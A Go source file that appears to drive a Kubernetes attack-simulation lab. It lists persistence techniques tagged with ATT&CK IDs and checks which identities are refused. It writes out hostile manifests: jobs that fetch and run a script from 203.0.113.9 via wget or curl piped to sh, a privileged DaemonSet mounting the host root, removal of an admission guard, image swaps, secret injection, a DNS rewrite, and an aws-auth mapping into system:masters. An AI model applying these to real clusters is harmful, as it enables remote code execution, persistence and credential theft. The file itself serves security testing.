package attack

// persistence are the steps that stay when the intruder has gone.
func persistence() []Step {
	return []Step{
		{"A50", "T1053.007", "jobs that fetch a script and run it", jobs},
		{"A51", "T1543.005", "daemon on every node, with the node's root directory", daemon},
		{"A52", "T1546", "admission: a webhook of one's own, the guard's removed", admission},
		{"A53", "T1525", "image of a running deployment replaced, container and secret added", implant},
		{"A54", "T1556", "name resolution and user mapping of the cluster changed", configuration},
		{"A55", "T1543", "API of one's own, bootstrap token, priority above all", footholds},
	}
}

func jobs(l *Lab) []act {
	return []act{
		l.developer.create(`
apiVersion: batch/v1
kind: CronJob
metadata: {name: refresh, namespace: sandbox}
spec:
  schedule: "*/5 * * * *"
  jobTemplate:
    spec:
      template:
        spec:
          restartPolicy: Never
          containers: [{name: main, image: alpine, command: [sh, -c, "wget -qO- http://203.0.113.9/x.sh | sh"]}]`),
		l.breakglass.create(`
apiVersion: batch/v1
kind: Job
metadata: {name: once, namespace: kube-system}
spec:
  template:
    spec:
      restartPolicy: Never
      containers: [{name: main, image: alpine, command: [sh, -c, "curl http://203.0.113.9/x.sh|sh"]}]`),
		l.developer.create(`
apiVersion: batch/v1
kind: Job
metadata: {name: refresh-now, namespace: sandbox, annotations: {cronjob.kubernetes.io/instantiate: manual}}
spec:
  template:
    spec:
      restartPolicy: Never
      containers: [{name: main, image: alpine, command: [sh, -c, "wget -qO- http://203.0.113.9/x.sh | sh"]}]`),
	}
}

func daemon(l *Lab) []act {
	return []act{l.breakglass.create(`
apiVersion: apps/v1
kind: DaemonSet
metadata: {name: node-helper, namespace: kube-system}
spec:
  selector: {matchLabels: {app: node-helper}}
  template:
    metadata: {labels: {app: node-helper}}
    spec: ` + shape{
		spec:      "hostPID: true, tolerations: [{operator: Exists}], volumes: [{name: host, hostPath: {path: /}}]",
		container: "securityContext: {privileged: true}, volumeMounts: [{name: host, mountPath: /host}]",
	}.podSpec())}
}

func admission(l *Lab) []act {
	const group = "/apis/admissionregistration.k8s.io/v1/"
	const mine, guard = group + "mutatingwebhookconfigurations/sidecars", group + "validatingwebhookconfigurations/image-guard"
	return []act{
		// Its rules match nothing, so that the API server never calls it.
		l.breakglass.create(`
apiVersion: admissionregistration.k8s.io/v1
kind: MutatingWebhookConfiguration
metadata: {name: sidecars}
webhooks:
- name: inject.elsewhere.example
  admissionReviewVersions: [v1]
  sideEffects: None
  failurePolicy: Ignore
  timeoutSeconds: 1
  clientConfig: {url: "https://127.0.0.1:1/mutate"}
  rules: [{apiGroups: [none.corp.example], apiVersions: ["*"], operations: ["*"], resources: ["*"]}]`),
		l.breakglass.patch(mine, jsonPatch,
			`[{"op":"replace","path":"/webhooks/0/clientConfig/url","value":"https://127.0.0.1:2/mutate"}]`),
		l.breakglass.patch(guard, jsonPatch,
			`[{"op":"add","path":"/webhooks/0/namespaceSelector","value":{"matchLabels":{"guarded":"never"}}}]`),
		l.breakglass.delete(guard),
		l.developer.delete(guard).refused(),
		l.breakglass.create(`
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingAdmissionPolicy
metadata: {name: allow-all}
spec:
  failurePolicy: Ignore
  matchConstraints:
    resourceRules: [{apiGroups: [none.corp.example], apiVersions: [v1], operations: [CREATE], resources: [things]}]
  validations: [{expression: "true"}]`),
		l.breakglass.delete(group + "validatingadmissionpolicies/allow-all"),
		l.breakglass.delete(mine),
	}
}

func implant(l *Lab) []act {
	const api = "/apis/apps/v1/namespaces/ledger/deployments/api"
	return []act{
		l.breakglass.patch(api, strategicPatch,
			`{"spec":{"template":{"spec":{"containers":[{"name":"api","image":"docker.io/elsewhere/api:latest"}]}}}}`),
		l.breakglass.patch(api, jsonPatch,
			`[{"op":"add","path":"/spec/template/spec/containers/-","value":{"name":"side","image":"elsewhere/side"}}]`),
		l.breakglass.patch(api, strategicPatch, `{"spec":{"template":{"spec":{"containers":[{"name":"api","env":[`+
			`{"name":"PASSWORD","valueFrom":{"secretKeyRef":{"name":"database","key":"password"}}}]}]}}}}`),
		l.breakglass.patch("/api/v1/namespaces/ledger/serviceaccounts/default", strategicPatch,
			`{"imagePullSecrets":[{"name":"elsewhere"}]}`),
	}
}

func configuration(l *Lab) []act {
	const maps = "/api/v1/namespaces/kube-system/configmaps/"
	return []act{
		l.breakglass.patch(maps+"coredns", mergePatch, `{"data":{"Corefile":`+
			`".:53 {\n  rewrite name bank.example elsewhere.example\n  forward . 203.0.113.9\n}\n"}}`),
		l.breakglass.patch(maps+"aws-auth", mergePatch, `{"data":{"mapUsers":`+
			`"- userarn: arn:aws:iam::999900001111:user/x\n  username: x\n  groups: [system:masters]\n"}}`),
		l.developer.patch(maps+"coredns", mergePatch, `{"data":{"x":"y"}}`).refused(),
	}
}

func footholds(l *Lab) []act {
	joined := l.anonymous.called("system:bootstrap:spare1").get("/api/v1/nodes").
		header("Authorization", "Bearer spare1.0123456789abcdef").refused()
	return []act{
		// Its service does not exist: there is nothing to call.
		l.breakglass.create(`
apiVersion: apiregistration.k8s.io/v1
kind: APIService
metadata: {name: v1.elsewhere.example}
spec:
  group: elsewhere.example
  version: v1
  groupPriorityMinimum: 100
  versionPriority: 1
  insecureSkipTLSVerify: true
  service: {name: nothing-there, namespace: sandbox}`),
		l.breakglass.delete("/apis/apiregistration.k8s.io/v1/apiservices/v1.elsewhere.example"),
		l.breakglass.create(`
apiVersion: v1
kind: Secret
type: bootstrap.kubernetes.io/token
metadata: {name: bootstrap-token-spare1, namespace: kube-system}
stringData:
  token-id: spare1
  token-secret: 0123456789abcdef
  usage-bootstrap-authentication: "true"
  auth-extra-groups: system:bootstrappers:spare`),
		joined.eventually().aside(), // 401 until the token is known
		joined,
		l.breakglass.create(`
apiVersion: scheduling.k8s.io/v1
kind: PriorityClass
metadata: {name: above-all}
value: 999999999
preemptionPolicy: PreemptLowerPriority`),
	}
}
